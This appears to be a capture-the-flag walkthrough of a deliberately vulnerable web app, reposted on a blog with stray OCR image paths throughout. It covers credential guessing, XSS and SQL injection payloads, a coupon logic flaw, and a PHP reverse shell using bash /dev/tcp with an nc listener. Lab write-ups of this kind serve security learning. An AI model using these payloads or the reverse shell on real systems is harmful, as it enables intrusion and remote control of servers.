WebAppSec 101-泓源视野

WebAppSec 101

[Task 1] Basic Description & Objectives

[Task 2] Walking through the application
- What version of Apache is being used?
- What language was used to create the website?
- What version of this language is used?

Let’s do the information gathering first.
1. Test web functionality
2. Home section → malicious file upload

WebAppSec 101插图

3. Home section — search → SQL injection, XSS

WebAppSec 101插图1
WebAppSec 101插图24. Home section — create account → SQL Injection
I fill every text box with “test”.

WebAppSec 101插图3
WebAppSec 101插图4

It seems like I logged in with user “test”.

5. Test similar name function

WebAppSec 101插图5

6. Your uploaded pics

WebAppSec 101插图6

7. Your purchased pics

WebAppSec 101插图78. Back to create account section — Let’s test for password strength → command injection

WebAppSec 101插图8
WebAppSec 101插图9
WebAppSec 101插图10

9. Check out sample user → Broken Access Control

WebAppSec 101插图11
WebAppSec 101插图12

10. Check out what is going on today

WebAppSec 101插图13

Click what about tomorrow until there’s is a coupon code.

WebAppSec 101插图14
WebAppSec 101插图14

11. Check upload section
Login first

WebAppSec 101插图15It’s the same page as we visited before.

WebAppSec 101插图16

12. Check recent section

WebAppSec 101插图17

13. Check guestbook section → XSS

WebAppSec 101插图18

14. Check cart section

WebAppSec 101插图19

View some picture and buy it

WebAppSec 101插图20
WebAppSec 101插图21WebAppSec 101插图22
WebAppSec 101插图23

15. Let’s view the bottom section → Password guessing, Brute-forcing, SQL injection


WebAppSec 101插图24


Terms of service

WebAppSec 101插图25

16. Search web paths with dirbuster
Results — I visited every links, but the links aren’t interesting.

WebAppSec 101插图26

17. Search site’s vulnerabilities and information.

nikto -h
WebAppSec 101插图27

18. Answer the questions
- What version of Apache is being used? 2.4.7
- What language was used to create the website? PHP- What version of this language is used? 5.5.9

There’ re potential vulnerabilities:
1. Malicious file upload
2. SQL injection,
3. XSS
4. Command injection
5. Broken Access Control
6. Password guessing
7. Brute-forcing

[Task 3] Establishing a methodology

[Task 4] AuthenticationWhat is the admin username?
- What is the admin password?
- What is the name of the cookie that can be manipulated?
- What is the username of a logged on user?
- What is the corresponding password to the username?

  1. Let’s try guessing admin username and password. There’ re 4 combinations that I can think of:
    - admin: admin
  2. Let’s login in Login Panel
    None of the combinations worked
WebAppSec 101插图28

3. Let’s login in Admin Panel
Luckily “admin : admin” worked

WebAppSec 101插图29

Although, I clicked “Create a new user!”, but nothing worked.

WebAppSec 101插图30
WebAppSec 101插图31

To answer the question
-What is the admin username? admin
- What is the admin password? admin

4. Let’s try to find the cookie.
Back to home page

WebAppSec 101插图32

Inspect Element

WebAppSec 101插图33

In console tab, typeWebAppSec 101插图34

There’s PHPSESSID, but it’s the wrong answer.

WebAppSec 101插图35

Let’s try the method again in admin panel.

WebAppSec 101插图36

To answer the question
-What is the name of the cookie that can be manipulated? session

5. Let’s access other user data
Click “Check out a sample user!”

WebAppSec 101插图37

Try to break access control by manipulating parameter

WebAppSec 101插图38

These pictures are potential users




WebAppSec 101插图39


WebAppSec 101插图40


WebAppSec 101插图41WebAppSec 101插图42


WebAppSec 101插图43


I tried userid 12 and 13, but it’s the empty page. I’ll stop listing users method for now.

As a conclusion, there’re 9 potential users. I’ll try password guessing first by this list:
Bob → Bob:Bob, bob:bob
scanner1 → scanner1:scanner1
scanner2 → scanner2:scanner2
scanner3 → scanner3:scanner3
scanner4 → scanner4:scanner4
scanner5 → scanner5:scanner5
wanda → wanda:wanda
calvinwatters → calvinwatters:calvinwatters
bryce → bryce: bryce

Luckily, I can logged in with bryce:bryceTo answer the question
- What is the username of a logged on user? bryce
- What is the corresponding password to the username? bryce

[Task 5] Cross Site Scripting (XSS)
I used cheat sheet from https://portswigger.net/web-security/cross-site-scripting/cheat-sheet<iframe src="javascript:alert(1)">
  1. Test for XSS on the search bar

2. Test for XSS on the guestbook page

Name: <iframe src=”javascript:alert(1)”>
Comment: test

not work

Let’s try again

Name: test
Comment: <iframe src=”javascript:alert(1)”>

3. Test for XSS behind the flash form on the home page → I skipped this due to flash player is turned off.

[Task 6] Injection
- Perform command injection on the check password field
- Check for SQLi on the application

  1. Perform command injection on the check password field — I skipped this due to when I perform the injection, the machine will break itself.2. Check for SQLi on the application
    In login page put
' or 1=1--

not work though

Let’s try in register an account


[Task 7] Miscellaneous & Logic Flaws

-Find a parameter manipulation vulnerability
-Find a directory traversal vulnerability
-Find a forceful browsing vulnerability
-Logic flaw: try get an item for free1. Find a parameter manipulation vulnerability
    — already done in Task 4 number 5
  2. Find a directory traversal vulnerability
    In upload a picture, I type command and upload some files.
WebAppSec 101插图44

Now, I get the path

WebAppSec 101插图45

Let’s type

WebAppSec 101插图46

Try to upload reverse shell
Here’s my php reverse shell

exec("/bin/bash -c 'bash -i >& /dev/tcp/ 0>&1'");?>

Upload it

WebAppSec 101插图47

Success uploading

WebAppSec 101插图48Check in /upload

WebAppSec 101插图49
WebAppSec 101插图50

Back to attacker’s machine

nc -lvp 1234

Click on the file

WebAppSec 101插图51

Back to attacker’s machine, now we have a shell

WebAppSec 101插图52

3. Find a forceful browsing vulnerability
Try to buy some image

WebAppSec 101插图53

Before purchasing it, users can access high quality image

WebAppSec 101插图54

4. Logic flaw: try get an item for free
In home section, click What is going on today?WebAppSec 101插图55

Click What about tomorrow? until I have coupon code : SUPERYOU21

WebAppSec 101插图56

Back to the cart. Try to apply coupon twice

WebAppSec 101插图57

Apply until I don’t have to pay

WebAppSec 101插图58
WebAppSec 101插图59

This allTHANKS

本文由 泓源视野 作者:admin 发表,其版权均为 泓源视野 所有,文章内容系作者个人观点,不代表 泓源视野 对观点赞同或支持。如需转载,请注明文章来源。


Protected with IP BlacklistCloudIP Blacklist Cloud您是第8235656 位访客, 您的IP是:[]